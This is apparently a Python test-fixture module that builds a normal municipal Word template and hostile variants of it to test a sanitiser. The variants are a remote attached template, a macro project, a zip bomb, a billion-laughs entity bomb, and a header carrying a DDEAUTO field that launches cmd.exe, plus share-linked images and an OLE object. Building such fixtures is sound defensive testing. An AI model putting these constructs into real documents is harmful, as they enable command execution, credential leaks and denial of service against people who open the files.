"""House-style Word templates for the tests: a normal one (its own heading font, a header
with a logo, a footer) and hostile variants of it, each built here from the normal one."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx

from app.resources import template_path

RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REMOTE_TEMPLATE = "\\\\server\\share\\x.dotm"
HOUSE_FONT = "Georgia"


def logo_png() -> bytes:
    """A small real PNG (a logo)."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 20), (200, 30, 60)).save(out, "PNG")
    return out.getvalue()


def house_style(path: Path) -> Path:
    """A normal municipal template: Heading 1 in Georgia, a header with the municipality's
    name and logo, a footer line."""
    document = docx.Document(str(template_path("woonzorgvisie.docx")))
    document.styles["Heading 1"].font.name = HOUSE_FONT
    header = document.sections[0].header
    header.paragraphs[0].text = "Gemeente Voorbeeld"
    header.add_paragraph().add_run().add_picture(io.BytesIO(logo_png()))
    document.sections[0].footer.paragraphs[0].text = "Afdeling Wonen"
    document.save(str(path))
    return path


def rewrite(
    source: Path,
    target: Path,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    rels: dict[str, list[str]] | None = None,
    overrides: list[str] | None = None,
) -> Path:
    """A copy of the template at `source` with parts replaced or added, `<Relationship>`
    elements added to .rels parts (made if missing) and `<Override>`s to the content types."""
    replace, add, rels = dict(replace or {}), dict(add or {}), dict(rels or {})
    with zipfile.ZipFile(source) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    parts.update(replace)
    for name, elements in rels.items():
        xml = parts.get(name, f'<Relationships xmlns="{RELS_NS}"></Relationships>'.encode())
        parts[name] = xml.replace(
            b"</Relationships>", "".join(elements).encode() + b"</Relationships>"
        )
    if overrides:
        types = parts["[Content_Types].xml"].decode()
        parts["[Content_Types].xml"] = types.replace(
            "</Types>", "".join(overrides) + "</Types>"
        ).encode()
    parts.update(add)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return target


def header_part(template: Path) -> str:
    """The name of the (first) header part of `template`."""
    with zipfile.ZipFile(template) as archive:
        return next(n for n in archive.namelist() if n.startswith("word/header"))


def with_xml_insert(template: Path, part: str, before: str, insert: str) -> bytes:
    """`part` of `template` with `insert` placed before the first `before`."""
    with zipfile.ZipFile(template) as archive:
        xml = archive.read(part).decode()
    assert before in xml, (part, before)
    return xml.replace(before, insert + before, 1).encode()


def remote_attached_template(normal: Path, target: Path) -> Path:
    """Settings attach a template on a server (Word fetches it on opening)."""
    settings = with_xml_insert(
        normal, "word/settings.xml", "<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT1"/>'
    )
    return rewrite(
        normal,
        target,
        replace={"word/settings.xml": settings},
        rels={
            "word/_rels/settings.xml.rels": [
                f'<Relationship Id="rIdT1" Type="{RT}attachedTemplate" '
                f'Target="file:///{REMOTE_TEMPLATE}" TargetMode="External"/>'
            ]
        },
    )


def with_macros(normal: Path, target: Path) -> Path:
    """A macro-enabled document: vbaProject.bin with its vbaData, as Word saves a .docm."""
    return rewrite(
        normal,
        target,
        add={
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()" * 50,
            "word/vbaData.xml": b'<?xml version="1.0"?><wne:vbaSuppData '
            b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        },
        rels={
            "word/_rels/document.xml.rels": [
                f'<Relationship Id="rIdV1" Type="{MS_RT}vbaProject" Target="vbaProject.bin"/>'
            ],
            "word/_rels/vbaProject.bin.rels": [
                f'<Relationship Id="rIdV2" Type="{MS_RT}wordVbaData" Target="vbaData.xml"/>'
            ],
        },
        overrides=[
            '<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>'
        ],
    )


def zip_bomb(normal: Path, target: Path, unpacked: int = 1536 * 1024 * 1024) -> Path:
    """The normal template plus one part of `unpacked` zero bytes (1.5 GB by default),
    packed to about a thousandth of that."""
    rewrite(normal, target)
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/bom.bin", "w", force_zip64=True) as part,
    ):
        for _ in range(unpacked // len(chunk)):
            part.write(chunk)
    return target


def entity_bomb(normal: Path, target: Path, part: str = "word/styles.xml") -> Path:
    """`part` opens with the 'billion laughs' DOCTYPE (entities expanding to gigabytes)."""
    laughs = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    with zipfile.ZipFile(normal) as archive:
        xml = archive.read(part).decode()
    body = xml.split("?>", 1)[1]
    root_tag = body.lstrip().split()[0].lstrip("<")
    doctype = f"<!DOCTYPE {root_tag} [{''.join(laughs)}]>"
    bomb = '<?xml version="1.0" encoding="UTF-8"?>' + doctype + body.replace(">", ">&lol9;", 1)
    return rewrite(normal, target, replace={part: bomb.encode()})


def many_parts(normal: Path, target: Path, count: int = 5000) -> Path:
    """Thousands of tiny parts (each costs a directory entry and a Python object)."""
    return rewrite(normal, target, add={f"word/stuk{i}.xml": b"<a/>" for i in range(count)})


def reaching_out(normal: Path, target: Path) -> Path:
    """A header that reaches outside: a web link, a linked picture on a server, a field
    INCLUDEPICTURE from a share (split over two runs), a DDEAUTO field, a VML image whose
    `src` is a share, an embedded OLE object; plus an unknown part, an embedded font and a
    stray second macro project that nothing refers to."""
    header = header_part(normal)
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">PICTURE '
        '"\\\\\\\\lek\\\\x.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>beeld</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
        "<w:r><w:t>dde</w:t></w:r></w:fldSimple>"
        '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:hyperlink r:id="rIdL1"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt">'
        '<v:imagedata src="\\\\vml-server\\pic.png"/></v:shape></w:pict></w:r>'
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'r:id="rIdO1" ProgID="Package"/></w:object></w:r></w:p>'
    )
    new_header = with_xml_insert(normal, header, "</w:hdr>", field)
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    return rewrite(
        normal,
        target,
        replace={header: new_header},
        add={
            "word/embeddings/ole1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 100,
            "word/onbekend.bin": b"wat is dit",
            "word/fonts/font1.odttf": b"\x00" * 200,
            "extra/vbaProject.bin": b"Sub Document_Open()",
        },
        rels={
            header_rels: [
                f'<Relationship Id="rIdL1" Type="{RT}hyperlink" '
                'Target="https://voorbeeld.example/volg" TargetMode="External"/>',
                f'<Relationship Id="rIdO1" Type="{RT}oleObject" Target="embeddings/ole1.bin"/>',
                f'<Relationship Id="rIdI9" Type="{RT}image" '
                'Target="file://beeldserver/logo.png" TargetMode="External"/>',
            ],
            "word/_rels/document.xml.rels": [
                '<Relationship Id="rIdX1" Type="http://example.com/rel/onbekend" '
                'Target="onbekend.bin"/>'
            ],
            "word/_rels/fontTable.xml.rels": [
                f'<Relationship Id="rIdF1" Type="{RT}font" Target="fonts/font1.odttf"/>'
            ],
        },
    )


def all_hostile_parts(normal: Path, target: Path) -> Path:
    """Every neutralisable attack in one template: remote template, macros, reaching out."""
    step1 = remote_attached_template(normal, target.with_name("stap1.docx"))
    step2 = with_macros(step1, target.with_name("stap2.docx"))
    return reaching_out(step2, target)
